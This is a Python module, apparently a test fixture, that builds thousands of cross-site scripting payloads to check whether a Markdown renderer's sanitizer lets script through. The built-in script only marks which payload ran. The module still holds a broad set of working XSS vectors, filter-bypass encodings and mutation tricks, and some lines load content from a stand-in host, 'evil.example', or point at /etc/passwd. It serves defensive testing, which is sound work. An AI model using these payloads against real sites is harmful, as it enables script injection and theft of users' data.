"""Texts that try to run a script where they are shown, made from what such texts consist of.

In the parts a `§` stands for the script: it leaves the number of the payload in `window.__ran`, so
that a test can say which one got through.
"""

from __future__ import annotations

import base64
import html
import re
from dataclasses import dataclass
from functools import cache
from itertools import product
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Iterator

MARK = "§"
TAGS = (
    "a href=x", "b", "p", "h3", "ol", "li", "code", "abbr title=x", "img src=x", "table", "td", "svg", "math",
    "body", "input autofocus", "textarea autofocus", "select autofocus", "button", "form", "details open",
    "video src=x", "audio src=x", "iframe src=/help", "object data=x", "embed src=x", "marquee",
    "dialog open", "x-own tabindex=1 autofocus", "link rel=stylesheet href=x", "style",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
SCRIPT, IMAGE, VECTOR, LINK = (
    "<script>§</script>", "<img src=x onerror=§>", "<svg onload=§>", "[x](javascript:§)",
)  # fmt: skip
CORES = (SCRIPT, IMAGE, VECTOR, LINK)
ADDRESSES = (
    "javascript:§", "JaVaScRiPt:§", "javascript://%0a§", "javascript&colon;§", "&#106;avascript:§",
    "&#x6A&#x61vascript:§", "java&#09;script:§", "java&NewLine;script:§", "&#1;javascript:§",
    "java\tscript:§", "\\javascript:§", "javascript\\:§", "%6Aavascript:§", "vbscript:§", "livescript:§",
    "feed:javascript:§", "view-source:javascript:§", "data:text/html,<script>§</script>",
    "data:text/html;base64,§64", "data:image/svg+xml,<svg onload=§ xmlns=http://www.w3.org/2000/svg>",
    "data:text/javascript,§", "blob:http://127.0.0.1/x", "file:///etc/passwd", "//evil.example/§",
    "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "https:evil.example\\@x",
    'mailto:a?body=" onfocus=§ autofocus="',
)  # fmt: skip
LINK_FORMS = (
    "[x](%)", "[x](<%>)", '[x](% "title")', "![x](%)", "[x][r]\n\n[r]: %", "[r]\n\n[r]: <%> 'title'", "<%>",
    "[![x](%)](%)", "[[%|x]]", "[[L-0001|%]]", '<a href="%">x</a>', "<a href='%'>x</a>", "<a href=%>x</a>",
    '<img src="%">', '<a xlink:href="%">x</a>', '<form action="%"><button>x</button></form>',
    '<button formaction="%">x</button>', '<q cite="%">x</q>', '<iframe src="%"></iframe>',
)  # fmt: skip
BREAKS = (
    '"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</option></select>",
    "</script>", "</style>", "</noscript>", "</template>", "</td></table>", "</a>", '\\">', "&quot;>", "%22>",
)  # fmt: skip
BROKEN_INTO = (" onmouseover=§ autofocus onfocus=§ x=", SCRIPT, IMAGE)
WRITTEN_LINKS = (
    '[x](https://a.example "t\\" onfocus=§ autofocus \\"")', "[x](https://a.example 't\" onfocus=§ \"')",
    '![a" onerror=§ "](/x.png)', '![x](/x.png" onerror=§ ")', '[x](https://a.example/"onfocus=§ autofocus=")',
    "[x](https://a.example/'onfocus=§//)", '[[L-0001|" onfocus=§ autofocus="]]',
    '[" onfocus=§][r]\n\n[r]: /x', '<https://a.example/"onfocus=§//>', '<a@b.example"onfocus=§>',
    '![x](x" onerror="§)', "![x](`x` onerror=§)", "[x](https://a.example/`onfocus=§`)",
    "[<img src=x onerror=§>](https://a.example)", '[x]: <" onload=§>\n[x]',
)  # fmt: skip
TEMPLATES = (
    "{{ 1234567 * 7654321 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% print(1234567 * 7654321) %}",
    "{{constructor.constructor('§')()}}", "${§}", "#{§}", "<%= § %>", "{{<script>§</script>}}",
    '{{" onfocus=§ autofocus="}}', "{{x}} {{<img src=x onerror=§>}}", '[{{x}}](https://a.example "{{y}}")',
    "![{{x}}](/{{y}}.png)", "<h3 onclick=§>{{x}}</h3>", "{{&lt;script&gt;§&lt;/script&gt;}}", "{{self}}",
    '<a href="{{javascript:§}}">x</a>', '[{{a}}]({{b}} "{{c}}\' onfocus=§")', "@{§}", "*{§}", "[[${§}]]",
)  # fmt: skip
CONSTRUCTS = (
    "| a | b |\n| --- | --- |\n| % | x |", "| % | b |\n| --- | :-: |\n| a | x |", "|a|\n|-|\n|[[L-0001|%]]|",
    "```%\nx\n```", "```\n%\n```", "~~~ {.x onclick=§}\n%\n~~~", "```\n%", "`%`", "`` ` % ``", "> %",
    "> > - %", "- %\n- [ ] %", "1. %", "# %", "%\n===", "#### <b>%", "**%**", "_%_", "***%",
    "[%](https://a.example)", "![%](/x.png)", "[x](https://a.example '%')",
    "[x][%]\n\n[%]: https://a.example", "<div markdown=1>\n%\n</div>", "<p>\n%\n\n%\n</p>",
    "<!-- -->%<!-- -->", "<!-- % --> %", "\\%", "x  \n%", "    %", "\t%", "{: onclick=§ }%",
    "x {: style=x }\n%", "<td>%</td>", "[^1]\n\n[^1]: %", "*[x]: %\nx", "Term\n: %", "<b>**%**</b>",
    "&lt;%&gt;", "<<%>>", "<%", "[TOC]\n%", "\\`%\\`", "<details open ontoggle=§>\n\n%\n", "$$%$$",
    "x^%^ ~%~", "<br\n>%",
)  # fmt: skip
RAW_TEXT = (
    "style", "noscript", "xmp", "noembed", "noframes", "iframe", "title", "textarea", "plaintext", "listing",
    "script", "template", "option", "select", "object", "applet", "frameset", "colgroup",
)  # fmt: skip
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
    '<svg></p><style><a id="</style><img src=1 onerror=§>">', "<svg><p><style><img src=x onerror=§></style>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=§></style></annotation-xml></math>',
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><desc><img src=x onerror=§></desc>",
    "<svg><title><style><img src=x onerror=§></style></title></svg>", "<a><table><a><img src=x onerror=§>",
    "<table><tr><td><svg><p><table><style><img src=x onerror=§>", "<b><p></b><img src=x onerror=§>",
    "<!--><img src=x onerror=§>-->", "<!---><img src=x onerror=§>-->", "<!--a--!><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>", "<?x ><img src=x onerror=§>?>", "<!DOCTYPE x [<!ENTITY y '§'>]>&y;",
    "<!x><img src=x onerror=§>", "</ x><img src=x onerror=§>", "</><script>§</script>",
    "<%><img src=x onerror=§>", "<svg><![CDATA[<img src=x onerror=§>]]></svg>",
    "<math><mi><![CDATA[</mi><img src=x onerror=§>]]></mi></math>",
    "<p><p><p><p><p><a href='</p><img src=x onerror=§>'>", '<img alt="`><img src=x onerror=§>`">',
    "<img alt='<x' title='/><img src=x onerror=§>'>", '<a title="</a><img src=x onerror=§>">x</a>',
    "<abbr title='--><img src=x onerror=§>'>x</abbr>", "<scr<script>ipt>§</scr</script>ipt>",
    "<<script>script>§<</script>/script>", "<svg/><svg><style><!--</style></svg><img src=x onerror=§>-->",
    "<select><table><td><img src=x onerror=§>", "<ruby><rt><svg onload=§>", "<caption><svg onload=§>",
    "<table><caption><img src=x onerror=§></table>", "<li><ul><dl><dd><svg onload=§></ol>",
    "<image src=x onerror=§>", "<isindex type=image src=x onerror=§>", "<keygen autofocus onfocus=§>",
    ('<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea>'
     "<img src='#' onerror='§'>\">"),
)  # fmt: skip
STYLES = (
    "<style>@import'//evil.example/§'</style>", "<style>*{background:url(//evil.example/§)}</style>",
    '<p style="background:url(javascript:§)">x</p>', '<p style="width:expression(§)">x</p>',
    '<b style="position:fixed;inset:0">x</b>', '<table background="javascript:§"><td>x</table>',
    '<link rel=stylesheet href="data:text/css,*{x:§}">', "<link rel=preload as=script href=//evil.example/§>",
    "<base href=//evil.example/>", "<base href='javascript:§//'>",
    '<meta http-equiv=refresh content="0;url=/help">',
    '<meta http-equiv=refresh content="0;url=javascript:§">', "<meta charset=utf-7>",
    "<font color=x onload=§>x</font>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=§>",
    '<p class="banner" id="main">x</p>', "<meta name=referrer content=unsafe-url><img src=//evil.example/§>",
    "<input type=hidden name=form_token value=§>",
)  # fmt: skip
VECTORS = (
    "<svg><script>§</script></svg>", "<svg><script href=data:,§ />",
    "<svg><script xlink:href=data:,§></script>", "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><set onbegin=§ attributeName=x>", "<svg><a xlink:href='javascript:§'><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,§#x'>",
    "<svg><a><set attributeName=href to=javascript:§ /><text y=20>x", "<svg><image href=x onerror=§>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:§ /><a id=x><text>x",
    "<svg><handler xmlns:ev=x ev:event=load>§</handler>",
    "<svg><style>*{background:url(//evil.example)}</style>", "<math href=javascript:§>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x",
    "<math><mi xlink:href='javascript:§'>x</mi></math>", "<math><mglyph src=x onerror=§>",
    "<svg><discard onbegin=§>",
)  # fmt: skip
OWN_WAYS = (
    "<script nonce=x>§</script>", "<script src=/static/js/main.js></script>",
    "<script src=//evil.example></script>", "<script type=module>§</script>",
    "<script async src=data:,§></script>", "<object data='data:text/html,§'>",
    "<iframe srcdoc='<script>parent.§</script>'>", "<iframe src=javascript:parent.§>",
    "<embed src=javascript:§>", "<form id=search action=//evil.example><input name=q>",
    "<a id=status name=status href=x>x</a>", "<a id=results>", "<input form=search name=q value=§>",
    "<p data-opens=shortcuts data-copies=q>x</p>", "<div data-closes id=palette>x</div>",
    "<a href=https://a.example target=_top ping=//evil.example/§>x</a>", "<video><source onerror=§ src=x>",
    "<img srcset='//evil.example/§ 2x' src=/x.png>", "<img src=//evil.example/§>", "<body onpageshow=§>",
    "<html onclick=§>", "<frameset onload=§>", "<video poster=//evil.example/§>",
    "<picture><source srcset=//evil.example/§><img src=/x.png></picture>", "<portal src=//evil.example>",
)  # fmt: skip
CONTROLS = (
    "\x00", "\x01", "\x02", "\x03", "\x08", "\t", "\n", "\x0b", "\x0c", "\r", "\x1b", "\x7f", "\x85", "\xa0",
    "\u00ad", "\u200b", "\u200d", "\u2028", "\u202e", "\ufeff", "\ufffd", "\U000e0041",
)  # fmt: skip
SPLIT = ("<scr{}ipt>§</script>", "<img{}src=x{}onerror=§>", "[x](java{}script:§)", "<{}svg/onload{}=§>")
PLACEHOLDERS = (
    "\x02wzxhzdk:0\x03 <script>§</script>", "\x02klzzwxh:0000\x03<img src=x onerror=§>",
    "\x0260\x03script>§\x0260\x03/script>", "\x02amp\x03lt;script>§", "[x](javascript\x0258\x03§)",
    "`<script>§</script>` \x02wzxhzdk:1\x03 \x02klzzwxh:0000\x03",
)  # fmt: skip
"""With the marks by which Python-Markdown sets parts of a text aside."""


@dataclass(frozen=True)
class Payload:
    """A text, with the number that its script would leave."""

    number: int
    text: str

    @property
    def is_storable(self) -> bool:
        """Whether it holds no control character, with which no text is accepted."""
        return not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", self.text)


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them, each once."""
    texts = list(dict.fromkeys(_texts()))
    return tuple(Payload(number, _with_script(text, number)) for number, text in enumerate(texts, 1))


def _with_script(text: str, number: int) -> str:
    script = f"window.__ran={number}"
    whole = base64.b64encode(f"<script>parent.{script}</script>".encode()).decode()
    return text.replace(f"{MARK}64", whole).replace(MARK, script)


def _texts() -> Iterator[str]:
    yield from (f"<{tag} {handler}=§>x</{tag.split()[0]}>" for tag, handler in product(TAGS, HANDLERS))
    yield from (form.replace("%", address) for form, address in product(LINK_FORMS, ADDRESSES))
    yield from (f"x{opening}{rest}" for opening, rest in product(BREAKS, BROKEN_INTO))
    yield from (form.replace("%", core) for form, core in product(CONSTRUCTS, CORES))
    yield from (split.replace("{}", control) for split, control in product(SPLIT, CONTROLS))
    yield from (f'<{tag}><p title="</{tag}><img src=x onerror=§>">' for tag in RAW_TEXT)
    yield from (f"<{tag}><!--</{tag}><img src=x onerror=§>-->" for tag in RAW_TEXT)
    yield from (*WRITTEN_LINKS, *TEMPLATES, *MUTATIONS, *STYLES, *VECTORS, *OWN_WAYS, *PLACEHOLDERS)
    for core in CORES:
        yield from _encoded(core)


def _encoded(core: str) -> Iterator[str]:
    """The text in ways that something on its way to the page may decode once too often."""
    yield from (core, core.upper(), core.swapcase(), core.replace(" ", "/"))
    yield html.escape(core)
    yield html.escape(html.escape(core))
    yield "".join(f"&#{ord(char)};" if char in "<>[]():" else char for char in core)
    yield "".join(f"&#x{ord(char):x}" if char in "<>[]():" else char for char in core)
    yield "".join(f"&#{ord(char):07d};" if char in "<>[]():" else char for char in core)
    yield quote(core, safe=MARK)
    yield quote(quote(core, safe=MARK), safe=MARK)
    yield "".join(f"\\u{ord(char):04x}" if char in "<>[]():" else char for char in core)
    yield "".join(f"\\x{ord(char):02x}" if char in "<>[]():" else char for char in core)
    yield "".join(chr(ord(char) + 0xFEE0) if char in "<>[]():/=" else char for char in core)
    yield core.replace("<", "+ADw-").replace(">", "+AD4-")
    yield core.replace("<", "\u2039").replace(">", "\u203a")
    yield core.replace("s", "\u017f")  # folds to an s
    yield core.replace("i", "\u0131")
    yield core.replace("<", "<\u0338").replace(">", ">\u0338")  # NFC composes them with the bracket
    yield "".join(f"\\{char}" if char in "<>[]()" else char for char in core)
